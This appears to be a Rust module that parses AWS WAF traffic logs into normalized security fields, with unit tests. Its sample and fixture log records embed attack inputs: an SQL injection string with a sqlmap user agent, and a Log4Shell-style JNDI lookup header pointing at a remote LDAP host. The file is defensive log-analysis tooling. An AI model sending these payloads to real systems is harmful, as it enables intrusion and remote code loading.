//! `aws_waf`: AWS WAF web ACL traffic logs, one JSON object for each web request.
//!
//! Source: AWS WAF Developer Guide, "Log fields for web ACL traffic" and "Log examples". Native fields are
//! paths; `http.request.headers.<name>` reads any header of the request, whatever the case of its name.
//!
//! Made here:
//! * `url`: `httpRequest.uri`, with `?` and `httpRequest.args` if there are any.
//! * `rules.terminating`: the rule that decided. For a rule group `terminatingRuleId` is only the name of the
//!   statement; the rule itself stands in the last element of `ruleGroupList`.
//! * `rules.counted`: every rule that matched but only counts: action `COUNT` at the top or in a group (rules
//!   in count mode), rules in `excludedRules`, and the rule that ended a group which itself only counts (its
//!   `terminatingRule` says BLOCK all the same). At most [`RULES_MAX`].
//! * `web_acl.account`, `web_acl.region`: parts of the ARN.
//!
//! Traps: headers are a list that keeps duplicates (the first counts); country `-` is unknown; null and empty
//! lists are everywhere; the time is in milliseconds.

use super::document::{contains, document, head, integer, push_string, set_array};
use super::{Decoder, DecoderKind, Wanted};
use crate::event::{Kind, Row, Slot, SlotId, Value};
use crate::json::elements;

pub(super) struct AwsWaf;

/// Counted rules that are listed; a web ACL has room for some hundred, of which few match one request.
const RULES_MAX: usize = 64;

const MADE: &[&str] = &["rules.counted", "rules.terminating", "url", "web_acl.account", "web_acl.region"];

const TIME: &str = "timestamp";
const URI: &str = "httpRequest.uri";
const ARGS: &str = "httpRequest.args";
const COUNTRY: &str = "httpRequest.country";
const ACL: &str = "webaclId";
const RULE: &str = "terminatingRuleId";
const RULE_TYPE: &str = "terminatingRuleType";
const GROUP_RULES: &str = "ruleGroupList[].terminatingRule.ruleId";
const GROUP_OTHERS: &str = "ruleGroupList[].nonTerminatingMatchingRules[].ruleId";
const GROUP_ACTIONS: &str = "ruleGroupList[].nonTerminatingMatchingRules[].action";
const EXCLUDED: &str = "ruleGroupList[].excludedRules[].ruleId";
const OTHERS: &str = "nonTerminatingMatchingRules[].ruleId";
const ACTIONS: &str = "nonTerminatingMatchingRules[].action";

impl DecoderKind for AwsWaf {
    fn name(&self) -> &'static str {
        "aws_waf"
    }

    fn sample(&self) -> &'static str {
        r#"{"timestamp":1795248000123,"formatVersion":1,"webaclId":"arn:aws:wafv2:eu-central-1:111122223333:regional/webacl/prod-edge/c2f4a1d0-9b1e-4c57-8f3a-000000000001","terminatingRuleId":"AWS-AWSManagedRulesSQLiRuleSet","terminatingRuleType":"MANAGED_RULE_GROUP","action":"BLOCK","terminatingRuleMatchDetails":[{"conditionType":"SQL_INJECTION","sensitivityLevel":"HIGH","location":"ALL_QUERY_ARGS","matchedData":["1","OR","1"],"matchedFieldName":"id"}],"httpSourceName":"ALB","httpSourceId":"111122223333-app/prod-alb/abcdef0123456781","ruleGroupList":[{"ruleGroupId":"AWS#AWSManagedRulesCommonRuleSet","terminatingRule":null,"nonTerminatingMatchingRules":[{"ruleId":"SizeRestrictions_BODY","action":"COUNT","overriddenAction":"BLOCK","ruleMatchDetails":[]}],"excludedRules":[{"exclusionType":"EXCLUDED_AS_COUNT","ruleId":"SizeRestrictions_BODY"}],"customerConfig":null},{"ruleGroupId":"AWS#AWSManagedRulesSQLiRuleSet","terminatingRule":{"ruleId":"SQLi_QUERYARGUMENTS","action":"BLOCK","ruleMatchDetails":null},"nonTerminatingMatchingRules":[],"excludedRules":null,"customerConfig":null}],"rateBasedRuleList":[],"nonTerminatingMatchingRules":[],"requestHeadersInserted":null,"responseCodeSent":403,"httpRequest":{"clientIp":"198.51.100.23","country":"NL","headers":[{"name":"Host","value":"www.example.com"},{"name":"User-Agent","value":"sqlmap/1.8.4#stable (https://sqlmap.org)"}],"uri":"/login","args":"id=1%27%20OR%201%3D1--%20-","httpVersion":"HTTP/1.1","httpMethod":"GET","requestId":"1-6b014f80-9fa2c823ccc1f95ff2bf3f45","fragment":"","scheme":"https","host":"www.example.com"},"labels":[{"name":"awswaf:clientip:geo:country:NL"},{"name":"awswaf:managed:aws:sql-database:SQLi_QueryArguments"}],"ja3Fingerprint":"035e2aa2e7e47aca8af1d47d97f3ad86","ja4Fingerprint":"t13d1516h2_8daaf6152771_2aa2e7e47aca","requestBodySize":0,"requestBodySizeInspectedByWAF":0}"#
    }

    fn schema(&self) -> &'static str {
        include_str!("../../rules/schema/aws_waf.yaml")
    }

    fn natives(&self) -> Option<Vec<&'static str>> {
        None
    }

    fn sniff(&self, frame: &[u8]) -> Option<&'static str> {
        let head = head(frame)?;
        (contains(head, "\"webaclId\"") && contains(head, "\"terminatingRule"))
            .then_some("a JSON object with webaclId and a terminating rule")
    }

    fn time_natives(&self) -> &'static [&'static str] {
        &[TIME]
    }

    fn made_from(&self, native: &str) -> &'static [&'static str] {
        match native {
            "url" => &[URI, ARGS],
            "rules.terminating" => &[RULE, RULE_TYPE, GROUP_RULES],
            "rules.counted" => &[RULE_TYPE, GROUP_RULES, GROUP_OTHERS, GROUP_ACTIONS, EXCLUDED, OTHERS, ACTIONS],
            "web_acl.account" | "web_acl.region" => &[ACL],
            _ => &[],
        }
    }

    fn build(&self, mut wanted: Wanted) -> Box<dyn Decoder> {
        let mut finish = Finish::new(&wanted);
        for (native, _) in &mut wanted.natives {
            if let Some(header) = native.strip_prefix("http.request.headers.") {
                *native = format!("httpRequest.headers{{name={header}}}.value");
            }
        }
        document(&wanted, MADE, move |row: &mut Row<'_>| finish.row(row))
    }
}

/// What is made of the natives of a row.
struct Finish {
    time: Option<SlotId>,
    country: Option<SlotId>,
    url: Option<Join>,
    arn: Vec<(SlotId, SlotId, usize)>,
    rules: Rules,
    text: Vec<u8>,
}

struct Join {
    uri: SlotId,
    args: SlotId,
    url: SlotId,
}

/// Slots around the rules that matched; all but the first two are inputs.
struct Rules {
    counted: Option<SlotId>,
    terminating: Option<SlotId>,
    rule: Option<SlotId>,
    rule_type: Option<SlotId>,
    group_rules: Option<SlotId>,
    excluded: Option<SlotId>,
    /// Ids and actions of rules that did not decide.
    others: [(Option<SlotId>, Option<SlotId>); 2],
}

impl Finish {
    fn new(wanted: &Wanted) -> Self {
        let slot = |native| wanted.slot(native);
        let join = || Some(Join { uri: slot(URI)?, args: slot(ARGS)?, url: slot("url")? });
        // Parts of arn:aws:wafv2:<region>:<account>:...
        let arn = [("web_acl.region", 3), ("web_acl.account", 4)];
        Self {
            time: slot(TIME),
            country: slot(COUNTRY),
            url: join(),
            arn: arn.into_iter().filter_map(|(native, part)| Some((slot(native)?, slot(ACL)?, part))).collect(),
            rules: Rules {
                counted: slot("rules.counted"),
                terminating: slot("rules.terminating"),
                rule: slot(RULE),
                rule_type: slot(RULE_TYPE),
                group_rules: slot(GROUP_RULES),
                excluded: slot(EXCLUDED),
                others: [(slot(GROUP_OTHERS), slot(GROUP_ACTIONS)), (slot(OTHERS), slot(ACTIONS))],
            },
            text: Vec::new(),
        }
    }

    fn row(&mut self, row: &mut Row<'_>) {
        if let Some(ms) = self.time.and_then(|slot| integer(row.value(slot))) {
            row.set_time_ms(ms);
        }
        if let Some(slot) = self.country.filter(|slot| row.value(*slot) == Value::Text(b"-")) {
            row.set(slot, Slot::MISSING);
        }
        if let Some(join) = &self.url {
            join.row(row, &mut self.text);
        }
        for (slot, acl, part) in &self.arn {
            self.text.clear();
            if let Value::Text(arn) = row.value(*acl) {
                self.text.extend_from_slice(arn.split(|byte| *byte == b':').nth(*part).unwrap_or_default());
            }
            if !self.text.is_empty() {
                row.set_written(*slot, Kind::Text, |out| out.extend_from_slice(&self.text));
            }
        }
        self.rules.row(row, &mut self.text);
    }
}

impl Join {
    fn row(&self, row: &mut Row<'_>, text: &mut Vec<u8>) {
        let (Value::Text(args) | Value::Escaped(args)) = row.value(self.args) else {
            return row.set(self.url, row.slot(self.uri));
        };
        let (Value::Text(uri) | Value::Escaped(uri)) = row.value(self.uri) else { return };
        if args.is_empty() {
            return row.set(self.url, row.slot(self.uri));
        }
        text.clear();
        text.extend_from_slice(uri);
        text.push(b'?');
        text.extend_from_slice(args);
        let is_plain = row.slot(self.uri).kind() == Kind::Text && row.slot(self.args).kind() == Kind::Text;
        let kind = if is_plain { Kind::Text } else { Kind::Escaped };
        row.set_written(self.url, kind, |out| out.extend_from_slice(text));
    }
}

/// The insides of the strings of an array.
fn strings<'a>(row: &'a Row<'_>, slot: Option<SlotId>) -> impl Iterator<Item = &'a [u8]> {
    let array = match slot.map(|slot| row.value(slot)) {
        Some(Value::Array(array)) => array,
        _ => b"[]",
    };
    elements(array).map(|(kind, inside)| if matches!(kind, Kind::Text | Kind::Escaped) { inside } else { b"" })
}

impl Rules {
    fn row(&self, row: &mut Row<'_>, text: &mut Vec<u8>) {
        // Groups behind the one that decided are not listed, so that it is the last.
        let rule_type = self.rule_type.map(|slot| row.value(slot));
        let is_group = matches!(rule_type, Some(Value::Text(b"MANAGED_RULE_GROUP" | b"GROUP")));
        if let Some(slot) = self.terminating {
            text.clear();
            text.extend_from_slice(strings(row, self.group_rules.filter(|_| is_group)).last().unwrap_or_default());
            if text.is_empty() {
                let rule = self.rule.map_or(Slot::MISSING, |rule| row.slot(rule));
                row.set(slot, rule);
            } else {
                let kind = if text.contains(&b'\\') { Kind::Escaped } else { Kind::Text };
                row.set_written(slot, kind, |out| out.extend_from_slice(text));
            }
        }
        if self.counted.is_some() {
            self.counted(row, is_group, text);
            set_array(row, self.counted, text);
        }
    }

    /// Collects the rules that matched without a consequence.
    fn counted(&self, row: &Row<'_>, is_group: bool, text: &mut Vec<u8>) {
        text.clear();
        let ended = strings(row, self.group_rules).count().saturating_sub(usize::from(is_group));
        let groups = strings(row, self.group_rules).take(ended);
        let others = self.others.iter().flat_map(|(ids, actions)| strings(row, *ids).zip(strings(row, *actions)));
        let others = others.filter(|(_, action)| *action == b"COUNT").map(|(id, _)| id);
        let mut count = 0;
        for id in groups.chain(others).chain(strings(row, self.excluded)) {
            let is_known = elements(text).any(|(_, known)| known == id);
            if !id.is_empty() && !is_known {
                push_string(id, text);
                count += 1;
            }
            if count == RULES_MAX {
                break;
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::decode::trial::{RECEIVED_MS, check, decode, never_filled, torture};
    use crate::event::Flaw;
    use crate::traffic::{Kind as Product, Traffic};

    /// Allowed by default; a rule group and a rule that would have blocked are in count mode.
    const COUNTED: &str = r#"{"timestamp":1795248000007,"formatVersion":1,"webaclId":"arn:aws:wafv2:us-east-1:111122223333:global/webacl/cdn/11111111-2222-3333-4444-555555555555","terminatingRuleId":"Default_Action","terminatingRuleType":"REGULAR","action":"ALLOW","terminatingRuleMatchDetails":[],"httpSourceName":"CF","httpSourceId":"E1ABCDEFGHIJKL","ruleGroupList":[{"ruleGroupId":"AWS#AWSManagedRulesSQLiRuleSet","terminatingRule":{"ruleId":"SQLi_BODY","action":"BLOCK","ruleMatchDetails":null},"nonTerminatingMatchingRules":[],"excludedRules":null},{"ruleGroupId":"AWS#AWSManagedRulesCommonRuleSet","terminatingRule":null,"nonTerminatingMatchingRules":[{"ruleId":"GenericLFI_BODY","action":"COUNT","overriddenAction":"BLOCK","ruleMatchDetails":[]},{"ruleId":"passed-challenge","action":"CHALLENGE","ruleMatchDetails":[]}],"excludedRules":[{"exclusionType":"EXCLUDED_AS_COUNT","ruleId":"GenericLFI_BODY"},{"exclusionType":"EXCLUDED_AS_COUNT","ruleId":"NoUserAgent_HEADER"}]}],"rateBasedRuleList":[{"rateBasedRuleId":"arn:x","rateBasedRuleName":"rate-per-client","limitKey":"IP","maxRateAllowed":2000,"limitValue":"192.0.2.7"}],"nonTerminatingMatchingRules":[{"ruleId":"AWS-AWSManagedRulesSQLiRuleSet","action":"COUNT","ruleMatchDetails":[]},{"ruleId":"captcha-login","action":"CAPTCHA","ruleMatchDetails":[],"captchaResponse":{"responseCode":0,"solveTimestamp":1795247000}}],"requestHeadersInserted":[{"name":"x-waf","value":"1"}],"responseCodeSent":null,"httpRequest":{"clientIp":"2001:db8::7","country":"-","headers":[{"name":"hOsT","value":"cdn.example.com"},{"name":"user-agent","value":"x \"y\""},{"name":"Cookie","value":"a=1"},{"name":"cookie","value":"b=2"},{"name":"Referer","value":"https://r.example/"},{"name":"Content-Type","value":"text/xml"},{"name":"X-Forwarded-For","value":"203.0.113.1"},{"name":"Authorization","value":"Basic eDp5"},{"name":"Accept","value":"*/*"},{"name":"Accept-Language","value":"de"},{"name":"Accept-Encoding","value":"br"},{"name":"Origin","value":"null"},{"name":"Content-Length","value":"17"},{"name":"X-Api-Version","value":"${jndi:ldap://198.51.100.23/a}"},{"name":"X-Requested-With","value":"XMLHttpRequest"},{"name":"X-Real-IP","value":"203.0.113.2"},{"name":"X-Odd","value":"odd"}],"uri":"/a\"b","args":"","httpVersion":"HTTP/2.0","httpMethod":"POST","requestId":"abc==","fragment":"top","scheme":"https","host":"cdn.example.com"},"labels":[{"name":"one"},{"name":"two"}],"captchaResponse":{"responseCode":405,"failureReason":"TOKEN_MISSING"},"challengeResponse":{"responseCode":202,"failureReason":"TOKEN_EXPIRED"},"oversizeFields":["REQUEST_BODY"],"requestBodySize":9000,"requestBodySizeInspectedByWAF":8192,"clientAsn":64500}"#;

    #[test]
    fn a_blocked_request_is_read_field_by_field() {
        check(
            &AwsWaf,
            &[(
                AwsWaf.sample(),
                &[
                    ("source.ip", "198.51.100.23"),
                    ("source.geo.country_iso_code", "NL"),
                    ("event.action", "BLOCK"),
                    ("event.outcome", "failure"),
                    ("event.type", "denied"),
                    ("rule.id", "AWS-AWSManagedRulesSQLiRuleSet"),
                    ("rule.name", "SQLi_QUERYARGUMENTS"),
                    ("rule.category", "MANAGED_RULE_GROUP"),
                    ("aws.waf.counted_rules", r#"["SizeRestrictions_BODY"]"#),
                    ("aws.waf.labels", r#"["awswaf:clientip:geo:country:NL","awswaf:managed:aws:sql-database:SQLi_QueryArguments"]"#),
                    ("aws.waf.rule_groups", r#"["AWS#AWSManagedRulesCommonRuleSet","AWS#AWSManagedRulesSQLiRuleSet"]"#),
                    ("aws.waf.match.condition_types", r#"["SQL_INJECTION"]"#),
                    ("aws.waf.match.data", r#"[["1","OR","1"]]"#),
                    ("url.original", "/login?id=1%27%20OR%201%3D1--%20-"),
                    ("url.path", "/login"),
                    ("url.query", "id=1%27%20OR%201%3D1--%20-"),
                    ("url.domain", "www.example.com"),
                    ("http.request.method", "GET"),
                    ("http.version", "1.1"),
                    ("http.response.status_code", "403"),
                    ("user_agent.original", "sqlmap/1.8.4#stable (https://sqlmap.org)"),
                    ("tls.client.ja3", "035e2aa2e7e47aca8af1d47d97f3ad86"),
                    ("tls.client.ja4", "t13d1516h2_8daaf6152771_2aa2e7e47aca"),
                    ("cloud.account.id", "111122223333"),
                    ("cloud.region", "eu-central-1"),
                    ("terminatingRuleType", "MANAGED_RULE_GROUP"),
                    ("%native.httpRequest.headers{name=user-agent}.value", "sqlmap/1.8.4#stable (https://sqlmap.org)"),
                ],
            )],
        );
        let decoded = decode(&AwsWaf, &["source.ip"], AwsWaf.sample().as_bytes());
        assert_eq!((decoded.time_ms, decoded.flaw, decoded.is_strict_object), (RECEIVED_MS + 123, None, true));
    }

    #[test]
    fn rules_and_groups_in_count_mode_are_told_apart_from_what_decided() {
        check(
            &AwsWaf,
            &[(
                COUNTED,
                &[
                    ("event.action", "ALLOW"),
                    ("rule.name", "Default_Action"),
                    ("aws.waf.counted_rules", r#"["SQLi_BODY","GenericLFI_BODY","AWS-AWSManagedRulesSQLiRuleSet","NoUserAgent_HEADER"]"#),
                    ("source.geo.country_iso_code", ""),
                    ("url.original", "/a\"b"),
                    ("user_agent.original", "x \"y\""),
                    ("http.request.headers.cookie", "a=1"),
                    ("http.request.headers.x-odd", "odd"),
                    ("http.request.headers.X-ODD", "odd"),
                    ("aws.waf.rate_rules", r#"["rate-per-client"]"#),
                ],
            )],
        );
    }

    #[test]
    fn escapes_survive_the_joining_of_a_url() {
        let line = r#"{"webaclId":"a","httpRequest":{"uri":"/a","args":"x=\"1\""}}"#;
        assert_eq!(decode(&AwsWaf, &["url.original"], line.as_bytes()).field("url.original"), "/a?x=\"1\"");
        assert_eq!(decode(&AwsWaf, &["url.original"], br#"{"httpRequest":{"uri":"/a"}}"#).field("url.original"), "/a");
        assert_eq!(decode(&AwsWaf, &["url.original"], br#"{"httpRequest":{"args":"a"}}"#).field("url.original"), "");
    }

    #[test]
    fn counted_rules_are_bounded() {
        let rules: Vec<String> = (0..5000).map(|number| format!(r#"{{"ruleId":"r{number}","action":"COUNT"}}"#)).collect();
        let line = format!(r#"{{"webaclId":"a","nonTerminatingMatchingRules":[{}]}}"#, rules.join(","));
        let decoded = decode(&AwsWaf, &["aws.waf.counted_rules"], line.as_bytes());
        assert_eq!(decoded.field("aws.waf.counted_rules").matches("\"r").count(), RULES_MAX);
    }

    #[test]
    fn every_name_of_the_schema_map_is_filled_by_some_line() {
        assert_eq!(never_filled(&AwsWaf, &[AwsWaf.sample(), COUNTED]), Vec::<String>::new());
    }

    #[test]
    fn made_traffic_is_read_without_a_flaw() {
        let mut lines = Vec::new();
        let mut traffic = Traffic::new(Product::AwsWaf, 3);
        for number in 0..500 {
            let mut line = Vec::new();
            traffic.next(RECEIVED_MS + number, &mut line);
            lines.push(line);
        }
        let mut counted = 0;
        for (number, line) in lines.iter().enumerate() {
            let decoded = decode(&AwsWaf, &["source.ip", "event.outcome", "rule.name", "aws.waf.counted_rules"], line);
            assert!(decoded.flaw.is_none() && decoded.is_strict_object && AwsWaf.sniff(line).is_some());
            assert_eq!(decoded.time_ms, RECEIVED_MS + number as i64);
            assert!(!decoded.field("source.ip").is_empty() && !decoded.field("rule.name").is_empty());
            counted += usize::from(!decoded.field("aws.waf.counted_rules").is_empty());
        }
        assert!((3..40).contains(&counted), "{counted}");
    }

    #[test]
    fn what_is_cut_off_keeps_the_fields_before() {
        let (cut, _) = AwsWaf.sample().split_once("\"headers\"").unwrap();
        let decoded = decode(&AwsWaf, &["rule.id", "event.action", "user_agent.original"], cut.as_bytes());
        assert_eq!(
            (decoded.field("event.action"), decoded.field("user_agent.original"), decoded.flaw),
            ("BLOCK", "", Some(Flaw::Truncated))
        );
        assert_eq!(decoded.time_ms, RECEIVED_MS + 123);
        assert_eq!(decode(&AwsWaf, &["rule.id"], b"no json").flaw, Some(Flaw::Malformed));
    }

    #[test]
    fn other_documents_are_not_claimed() {
        for line in ["{}", r#"{"webaclId":1}"#, r#"{"terminatingRuleId":"x"}"#, "webaclId terminatingRule", ""] {
            assert_eq!(AwsWaf.sniff(line.as_bytes()), None, "{line}");
        }
    }

    #[test]
    fn broken_lines_never_panic() {
        torture(&AwsWaf, &[AwsWaf.sample(), COUNTED]);
    }
}
